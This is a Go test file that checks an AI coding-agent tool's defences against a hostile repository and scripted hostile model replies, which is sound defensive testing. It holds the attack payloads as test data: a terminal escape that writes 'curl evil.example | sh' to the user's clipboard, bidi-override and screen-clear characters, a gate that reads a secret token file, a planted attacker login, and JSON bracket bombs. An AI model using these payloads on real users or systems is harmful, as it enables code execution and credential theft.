package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/lemmings-dev/lemmings/demo"
	"github.com/lemmings-dev/lemmings/llm/llmtest"
	"github.com/lemmings-dev/lemmings/nodes/prompts"
)

// The attacks of issue 43 on what lemmings reads, prints and keeps (the
// probe's reproductions 7 to 12 and 14), run through the binary with a
// hostile repository and scripted hostile models.

// runWithin runs the binary and fails the test when it has not ended
// within limit (the FIFO held lemmings until SIGKILL).
func (c *cli) runWithin(t *testing.T, limit time.Duration, dir string, args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	cmd := c.command(ctx, dir, args...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	start := time.Now()
	err := cmd.Run()
	if ctx.Err() != nil {
		t.Fatalf("lemmings %v still ran after %s: killed\nstdout:\n%s\nstderr:\n%s", args, limit, out.String(), errb.String())
	}
	code := 0
	if ee, ok := err.(interface{ ExitCode() int }); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("lemmings %v: %v", args, err)
	}
	t.Logf("lemmings %v: exit %d in %s", args, code, time.Since(start).Round(time.Millisecond))
	return result{code: code, stdout: out.String(), stderr: errb.String()}
}

// Reproduction 7 (and issue 46's item 7): a gate of the repository's that
// replaces a source file with a FIFO held lemmings forever in open(2), and
// SIGTERM, two SIGINTs and lemmings halt did nothing; a FIFO left by the
// model ended the run with git's "can only add regular files". Now the
// attempt fails in lemmings' words, naming the file, and the run goes on:
// the gate makes the FIFO once, the next attempt passes.
func TestAFIFOInTheWorkTreeFailsTheAttemptNamedAndTheRunGoesOn(t *testing.T) {
	repo := hostileRepo(t, map[string]string{
		".gitignore":    ".made\n",
		"lemmings.yaml": "gates:\n  - {name: test, command: \"if [ -e .made ]; then go test ./...; else touch .made && rm -f textstats.go && mkfifo textstats.go; fi\"}\n",
	})
	srv := demo.NewServer(&demo.Script{})
	t.Cleanup(srv.Close)
	c := newCLI(t)
	c.config(scriptedConfig(srv.URL(), "blocking"))
	plan := filepath.Join(t.TempDir(), "plan.yaml")
	writeFile(t, plan, fixPlan)
	r := c.runWithin(t, 2*time.Minute, repo, "run", "--plan", plan, "--no-supervisors", "--json")
	res := lastJSON(t, r.stdout)
	if res["outcome"] != "done" {
		t.Fatalf("exit %d, result %v\nstdout:\n%s\nstderr:\n%s", r.code, res, r.stdout, r.stderr)
	}
	events := readFile(t, filepath.Join(repo, ".lemmings", "runs", res["run_id"].(string), "events.jsonl"))
	want := "the attempt failed because textstats.go is a FIFO (named pipe), not a regular file"
	if !strings.Contains(events, want) {
		t.Errorf("the events do not say %q:\n%s", want, events)
	}
	for _, bad := range []string{"can only add regular files", "cannot hash", "error in : node"} {
		if strings.Contains(events+r.stdout+r.stderr, bad) {
			t.Errorf("git's words or an anonymous error reached the run: %q", bad)
		}
	}
	if got := git(t, repo, "show", res["branch"].(string)+":textstats.go"); !strings.Contains(got, "float64(total) / float64(len(words))") {
		t.Errorf("the fix is not on the branch:\n%s", got)
	}
}

// evilText is what a hostile supervisor slips into its words: OSC 52
// (writes the user's clipboard), a screen clear, a bidirectional override
// (shows what follows reversed) and a bell.
const evilText = " \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\u202eexe.txt\a"

// evilTitle is evilText without the semicolons that would split the
// directive into several tasks.
const evilTitle = " \x1b[2J\u202eexe.txt\a"

// rawEscapes lists the characters of evilText found raw in out.
func rawEscapes(out string) []string {
	var found []string
	for _, c := range []string{"\x1b", "\u202e", "\a", "\u009b"} {
		if strings.Contains(out, c) {
			found = append(found, strconvQuote(c))
		}
	}
	return found
}

func strconvQuote(s string) string { return fmt.Sprintf("%+q", s) }

// hostileSupervisor is the demo's Code Style supervisor with evilText in
// its directive's description and rationale, in its document's title, and
// in the path it asks its document written at; the implementor of the
// directive's task is the demo's, told the title without it.
func hostileSupervisor(script *demo.Script) []llmtest.Step {
	cloud, local := script.Steps()[1].Respond, script.Steps()[0].Respond
	roleIs := func(role string) func(llmtest.Call) bool {
		return func(c llmtest.Call) bool { return len(c.Messages) > 0 && c.Role() == role }
	}
	sup := llmtest.Step{Name: "hostile code style", API: llmtest.OpenAI, Times: -1, Match: roleIs(prompts.CodeStyle),
		Respond: func(c llmtest.Call) llmtest.Reply {
			r := cloud(c)
			var v map[string]any
			if json.Unmarshal([]byte(r.Content), &v) != nil {
				return r
			}
			for _, d := range v["directives"].([]any) {
				d := d.(map[string]any)
				d["description"] = d["description"].(string) + evilTitle
				d["rationale"] = d["rationale"].(string) + evilText
			}
			for _, d := range v["docs"].([]any) {
				d := d.(map[string]any)
				d["title"] = d["title"].(string) + evilText
				d["path"] = "conventions/\u202ebad\x1b]0;x\x07.md"
			}
			v["summary"] = v["summary"].(string) + evilText
			body, _ := json.Marshal(v)
			r.Content = string(body)
			return r
		}}
	impl := llmtest.Step{Name: "implementor without the escapes", API: llmtest.Ollama, Times: -1, Match: roleIs(prompts.Implementor),
		Respond: func(c llmtest.Call) llmtest.Reply {
			c.Messages = slices.Clone(c.Messages)
			for i := range c.Messages {
				c.Messages[i].Content = strings.ReplaceAll(c.Messages[i].Content, strings.TrimSpace(evilTitle), "")
			}
			return local(c)
		}}
	return []llmtest.Step{sup, impl}
}

// Reproductions 8 and 9: a supervisor's directive holding OSC 52 and
// U+202E was printed raw by run, directives, history, report and log, a
// knowledge file was named with them, and a commit subject held the raw
// ESC. No output, file name or commit holds them now; --json keeps the
// text, escaped.
func TestASupervisorsEscapesReachNoTerminalFileNameOrCommit(t *testing.T) {
	repo := prepared(t)
	script := &demo.Script{}
	srv := demo.NewServer(script, hostileSupervisor(script)...)
	t.Cleanup(srv.Close)
	c := newCLI(t)
	c.config(scriptedConfig(srv.URL(), "blocking"))
	r := c.runWithin(t, 4*time.Minute, repo, "run", "--full", demo.Remit)
	if r.code != 0 {
		t.Fatalf("run: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	if bad := rawEscapes(r.stdout + r.stderr); len(bad) > 0 {
		t.Errorf("lemmings run printed %v raw:\n%q", bad, r.stdout+r.stderr)
	}
	jr := c.run(repo, "runs", "--json")
	var runID string
	for _, l := range strings.Split(strings.TrimSpace(jr.stdout), "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(l), &m) == nil && m["run_id"] != nil {
			runID = m["run_id"].(string)
		}
	}
	if runID == "" {
		t.Fatalf("no run listed:\n%s", jr.stdout)
	}
	shown := false
	for _, args := range [][]string{{"directives", runID}, {"directives", "--json", runID}, {"history", runID}, {"report", runID},
		{"report", "--json", runID}, {"log", runID}, {"log", "--json", runID}, {"log", "-v", runID}, {"status", runID}, {"status", "--json", runID}, {"runs"}} {
		out := c.run(repo, args...)
		if out.code != 0 {
			t.Errorf("lemmings %v: exit %d\n%s", args, out.code, out.stderr)
		}
		if bad := rawEscapes(out.stdout + out.stderr); len(bad) > 0 {
			t.Errorf("lemmings %v printed %v raw:\n%q", args, bad, out.stdout)
		}
		if slices.Contains(args, "--json") && strings.Contains(out.stdout, `\u001b]52;c;`) && strings.Contains(out.stdout, `\u202e`) {
			shown = true // the text is kept, escaped
		}
	}
	if !shown {
		t.Error("no --json output keeps the directive's text escaped")
	}
	runDir := filepath.Join(repo, ".lemmings", "runs", runID)
	for _, f := range []string{"report.md", "board.md"} {
		if bad := rawEscapes(readFile(t, filepath.Join(runDir, f))); len(bad) > 0 {
			t.Errorf("%s holds %v raw", f, bad)
		}
	}
	branch := "lemmings/" + runID
	if bad := rawEscapes(git(t, repo, "log", "--format=%B", "main.."+branch)); len(bad) > 0 {
		t.Errorf("a commit message holds %v raw:\n%s", bad, git(t, repo, "log", "--format=%B", "main.."+branch))
	}
	if !strings.Contains(git(t, repo, "log", "--format=%s", "main.."+branch), "Add a doc comment to MeanWordLength") {
		t.Errorf("the directive's task was not committed:\n%s", git(t, repo, "log", "--format=%s", "main.."+branch))
	}
	files := git(t, repo, "ls-tree", "-r", "-z", "--name-only", branch)
	if bad := rawEscapes(files); len(bad) > 0 {
		t.Errorf("a file of the branch is named with %v: %q", bad, files)
	}
}

// Reproduction 9: a repository that commits .lemmings/checkpoints and
// .lemmings/runs (git add -f) handed every clone a run nobody ran there:
// runs listed it, status, log and report printed what it said. Such runs
// are lemmings' no more: not listed, read or resumed, with a warning
// naming them; the clone's own runs work as before.
func TestACloneNeverListsOrReadsTheRunsItsRepositoryCommits(t *testing.T) {
	attacker := prepared(t)
	srv := demo.NewServer(&demo.Script{})
	t.Cleanup(srv.Close)
	c := newCLI(t)
	c.config(scriptedConfig(srv.URL(), "blocking"))
	plan := filepath.Join(t.TempDir(), "plan.yaml")
	writeFile(t, plan, fixPlan)
	r := c.run(attacker, "run", "--plan", plan, "--no-supervisors", "--json")
	planted := lastJSON(t, r.stdout)["run_id"].(string)
	report := filepath.Join(attacker, ".lemmings", "runs", planted, "report.md")
	writeFile(t, report, readFile(t, report)+"\nplanted"+evilText+"\n")
	git(t, attacker, "add", "-f", ".lemmings/checkpoints", ".lemmings/runs")
	git(t, attacker, "-c", "user.name=attacker", "-c", "user.email=a@example.invalid", "commit", "-q", "-m", "history")
	victim := filepath.Join(t.TempDir(), "clone")
	if out, err := exec.Command("git", "clone", "-q", attacker, victim).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v\n%s", err, out)
	}

	runs := c.run(victim, "runs", "--json")
	if strings.Contains(runs.stdout, planted) {
		t.Errorf("runs lists the committed run %s:\n%s", planted, runs.stdout)
	}
	if !strings.Contains(runs.stderr, "the repository commits lemmings run state") || !strings.Contains(runs.stderr, planted) {
		t.Errorf("no warning names the committed run:\n%s", runs.stderr)
	}
	for _, args := range [][]string{{"status", planted}, {"log", planted}, {"report", planted}, {"directives", planted}, {"history", planted}, {"resume", planted}} {
		out := c.run(victim, args...)
		if out.code == 0 || strings.Contains(out.stdout, "planted") || !strings.Contains(out.stderr, "committed in the repository") {
			t.Errorf("lemmings %v: exit %d, read the committed run:\nstdout:\n%s\nstderr:\n%s", args, out.code, out.stdout, out.stderr)
		}
		if bad := rawEscapes(out.stdout + out.stderr); len(bad) > 0 {
			t.Errorf("lemmings %v printed %v raw", args, bad)
		}
	}

	// The clone's own run is listed and read as ever.
	mine := lastJSON(t, c.run(victim, "run", "--plan", plan, "--no-supervisors", "--json").stdout)["run_id"].(string)
	if out := c.run(victim, "runs"); !strings.Contains(out.stdout, mine) || strings.Contains(out.stdout, planted) {
		t.Errorf("runs after a run of the clone's own:\n%s", out.stdout)
	}
	if out := c.run(victim, "report", mine); out.code != 0 || !strings.Contains(out.stdout, mine) {
		t.Errorf("report of the clone's own run: exit %d\n%s%s", out.code, out.stdout, out.stderr)
	}
}

// Also seen: a project file's knowledge.dir: .lemmings/runs was accepted,
// and the supervisors would have written over the runs' records. A
// knowledge folder under .lemmings/ or .git/ is refused, naming the file,
// the line and the key.
func TestAKnowledgeDirInsideLemmingsOrGitIsRefused(t *testing.T) {
	for _, dir := range []string{".lemmings/runs", ".git/hooks", "./.lemmings"} {
		repo := hostileRepo(t, map[string]string{"lemmings.yaml": "knowledge:\n  dir: " + dir + "\n"})
		c := newCLI(t)
		c.config(scriptedConfig("http://127.0.0.1:9", "blocking"))
		r := c.run(repo, "run", "--no-supervisors", "anything")
		if r.code != exitUsage || !strings.Contains(r.stderr, "lemmings.yaml:2") || !strings.Contains(r.stderr, "knowledge.dir") {
			t.Errorf("knowledge.dir %s: exit %d\n%s", dir, r.code, r.stderr)
		}
	}
}

// jwtOf is an unsigned JSON Web Token carrying claims.
func jwtOf(claims string) string {
	enc := base64.RawURLEncoding.EncodeToString
	return enc([]byte(`{"alg":"RS256"}`)) + "." + enc([]byte(claims)) + ".c2ln"
}

// Reproduction 10: code run inside the coding CLI's sandbox replaced the
// user's login with another account's, and lemmings wrote it back over
// ~/.codex/auth.json. The user's login stays as it was now, and the run
// says why; a refresh of the same login is still written back.
func TestACodingCLIsLoginOfAnotherAccountIsNotWrittenBack(t *testing.T) {
	auth := func(token, account, email string) string {
		return `{"OPENAI_API_KEY":null,"tokens":{"id_token":"` + jwtOf(`{"sub":"user-`+account+`","email":"`+email+`"}`) +
			`","access_token":"` + token + `","refresh_token":"r-` + token + `","account_id":"` + account + `"},"last_refresh":"2026-01-01"}`
	}
	mine := auth("tok-1", "acct-mine", "me@example.com")
	for name, c := range map[string]struct {
		written string
		kept    bool
	}{
		"another account": {auth("tok-evil", "acct-attacker", "attacker@example.com"), true},
		"a refresh":       {auth("tok-2", "acct-mine", "me@example.com"), false},
	} {
		t.Run(name, func(t *testing.T) {
			// CODEX_HOME rather than HOME: the gates keep the Go caches of HOME.
			codexHome := t.TempDir()
			login := filepath.Join(codexHome, "auth.json")
			writeFile(t, login, mine)
			run := fixMean()
			run["home"] = map[string]string{"$CODEX_HOME/auth.json": c.written}
			k := newCLICase(t, []map[string]any{run}, "", "    preset: codex\n", "CODEX_HOME="+codexHome)
			r, res := k.run()
			if res["outcome"] != "done" {
				t.Fatalf("result %v\n%s", res, r.stderr)
			}
			got := readFile(t, login)
			events := readFile(t, filepath.Join(k.repo, ".lemmings", "runs", res["run_id"].(string), "events.jsonl"))
			if c.kept {
				if got != mine {
					t.Errorf("the user's login was replaced:\n%s", got)
				}
				if !strings.Contains(events, "login was not written back: it is another account's") {
					t.Errorf("no warning says why the login was kept")
				}
			} else if got != c.written {
				t.Errorf("a refresh of the same login was not written back:\n%s", got)
			}
		})
	}
}

// Reproductions 11 and 12: a reply of 2,000,000 "[" crashed lemmings
// (fatal error: stack overflow in the JSON repair; the run left crashed),
// and a server that trickled tokens forever held the run until its wall
// time. Each is now a failed call with a clear reason: the run goes on to
// its end, stored as it ended, within seconds.
func TestAHostileModelServerIsAFailedCallNeverACrashOrAHang(t *testing.T) {
	for name, c := range map[string]struct {
		reply llmtest.Reply
		says  string
	}{
		"2,000,000 [":            {llmtest.Reply{Content: strings.Repeat("[", 2_000_000)}, "ran past its budget"},
		"50,000 [ within budget": {llmtest.Reply{Content: strings.Repeat("[", 50_000)}, "nests brackets more than 512 deep"},
		"tokens forever":         {llmtest.Reply{Content: `{"thought": "`, Endless: true}, "ran past its budget"},
	} {
		t.Run(name, func(t *testing.T) {
			repo := prepared(t)
			impl := llmtest.Step{Name: "hostile implementor", API: llmtest.Ollama, Times: -1,
				Match: func(c llmtest.Call) bool { return len(c.Messages) > 0 && c.Role() == prompts.Implementor },
				Reply: c.reply}
			srv := demo.NewServer(&demo.Script{}, impl)
			t.Cleanup(srv.Close)
			cl := newCLI(t)
			cl.config(scriptedConfig(srv.URL(), "blocking") + "  max_retries: 0\n  max_consecutive_failures: 1\n  max_wall_time: 10m\n")
			plan := filepath.Join(t.TempDir(), "plan.yaml")
			writeFile(t, plan, fixPlan)
			r := cl.runWithin(t, 3*time.Minute, repo, "run", "--plan", plan, "--no-supervisors", "--json")
			for _, bad := range []string{"fatal error", "stack overflow", "goroutine "} {
				if strings.Contains(r.stderr, bad) {
					t.Fatalf("lemmings crashed:\n%s", r.stderr[:min(len(r.stderr), 3000)])
				}
			}
			res := lastJSON(t, r.stdout)
			if res["status"] != "failed" || res["stored_status"] == "running" {
				t.Errorf("result %v, want a run that failed and says so", res)
			}
			events := readFile(t, filepath.Join(repo, ".lemmings", "runs", res["run_id"].(string), "events.jsonl"))
			if !strings.Contains(events, c.says) {
				t.Errorf("the events do not say %q", c.says)
			}
		})
	}
}

// Reproduction 14: lemmings mcp --http --token-file kept its token in a
// file of the user's choosing, and the sandbox hid only its own tokens'
// folder: a gate read the token (and with the network, a coding CLI could
// have started runs with it). While the server runs, that file is hidden
// from every sandboxed command too.
func TestATokenFileOfMCPOverHTTPIsHiddenFromGates(t *testing.T) {
	requireSandbox(t)
	tokenFile := filepath.Join(t.TempDir(), "mcp.token")
	const token = "mcp-token-kept-outside-0123456789abcdef"
	writeFile(t, tokenFile, token+"\n")
	c := newCLI(t)
	repo := hostileRepo(t, map[string]string{
		"lemmings.yaml": "gates:\n  - {name: test, command: \"cat " + tokenFile + " > seen.txt 2>&1; go test ./...\"}\n",
	})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	mcp := c.command(ctx, repo, "mcp", "--http", "127.0.0.1:0", "--token-file", tokenFile)
	out, err := mcp.StdoutPipe()
	must(t, err)
	must(t, mcp.Start())
	defer func() { _ = mcp.Process.Signal(syscall.SIGINT); _ = mcp.Wait() }()
	lines := bufio.NewReader(out)
	for {
		line, err := lines.ReadString('\n')
		if err != nil {
			t.Fatalf("mcp --http printed no URL: %v", err)
		}
		if strings.HasPrefix(line, "lemmings mcp: ") {
			break
		}
	}
	go io.Copy(io.Discard, lines)

	srv := demo.NewServer(&demo.Script{})
	t.Cleanup(srv.Close)
	c.config(scriptedConfig(srv.URL(), "blocking"))
	plan := filepath.Join(t.TempDir(), "plan.yaml")
	writeFile(t, plan, fixPlan)
	r := c.run(repo, "run", "--plan", plan, "--no-supervisors", "--json")
	res := lastJSON(t, r.stdout)
	if res["outcome"] != "done" {
		t.Fatalf("exit %d, result %v\n%s", r.code, res, r.stderr)
	}
	seen := git(t, repo, "show", res["branch"].(string)+":seen.txt")
	if strings.Contains(seen, token) {
		t.Errorf("a gate read the token of mcp --http: seen.txt = %q", seen)
	}
	if got := readFile(t, tokenFile); !strings.Contains(got, token) {
		t.Errorf("the token file changed: %q", got)
	}
}

// Also seen: runs killed with SIGKILL left their sandbox folders (the
// gates' private HOME and TMPDIR) in the temp folder for good. lemmings
// clean, and the next run, remove those whose process is gone.
func TestTheSandboxFoldersOfAKilledRunAreRemovedLater(t *testing.T) {
	tmp := t.TempDir()
	repo := prepared(t)
	srv := demo.NewServer(&demo.Script{ImplementorLatency: time.Minute})
	t.Cleanup(srv.Close)
	c := newCLI(t, "TMPDIR="+tmp)
	c.config(scriptedConfig(srv.URL(), "blocking"))
	plan := filepath.Join(t.TempDir(), "plan.yaml")
	writeFile(t, plan, fixPlan)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := c.command(ctx, repo, "run", "--plan", plan, "--no-supervisors")
	must(t, cmd.Start())
	boxes := func() []string {
		m, _ := filepath.Glob(filepath.Join(tmp, "lemmings-sandbox-*"))
		return m
	}
	for deadline := time.Now().Add(time.Minute); len(boxes()) == 0; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the run made no sandbox folder")
		}
	}
	time.Sleep(500 * time.Millisecond) // well into the implementor's model call
	must(t, cmd.Process.Signal(syscall.SIGKILL))
	_ = cmd.Wait()
	left := boxes()
	if len(left) != 1 {
		t.Fatalf("sandbox folders after the kill: %v", left)
	}
	time.Sleep(2500 * time.Millisecond) // a folder younger than 2 s is spared
	r := c.run(repo, "clean", "--finished")
	if _, err := os.Stat(left[0]); err == nil {
		t.Errorf("lemmings clean left %s (exit %d)\n%s%s", left[0], r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "removed 1 temporary folder left by killed lemmings processes") {
		t.Errorf("clean does not say what it removed:\n%s", r.stdout)
	}
}
